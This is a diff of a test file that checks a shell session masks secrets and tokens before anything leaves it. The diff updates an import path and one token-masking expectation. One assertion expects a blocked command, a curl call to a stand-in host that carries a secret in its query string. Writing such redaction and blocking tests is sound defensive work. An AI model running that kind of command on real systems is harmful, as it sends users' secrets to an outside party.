@@ -1,7 +1,7 @@
 import fs from 'node:fs';
 import path from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { REDACTED } from '../../protocol/redact';
+import { REDACTED } from '../../common/redact';
 import { createCommand, outputOf, waitFor } from '../testing/fixtures';
 import { shellProvider } from '../providers';
 import { eventsOf, makeSessionHarness, type SessionHarness } from '../testing/session-harness';
@@ -38,7 +38,7 @@ describe('a session masks secrets before anything leaves it', () => {
     const out = outputOf(h.events, sid);
     expect(out).toContain(`one:${REDACTED}:`);
     expect(out).toContain(`two:${REDACTED}:`);
-    expect(out).toContain(`tok:${REDACTED}:`);
+    expect(out).toContain(`tok:ghp_${REDACTED}:`);
     const everything = JSON.stringify(h.events);
     for (const leaked of [SECRET, SECRET_B64.slice(0, 20), GITHUB_TOKEN]) expect(everything).not.toContain(leaked);
     expect(eventsOf(h.events, sid, 'POLICY_BLOCKED')[0].command).toBe(`curl https://example.invalid/?k=${REDACTED}`);
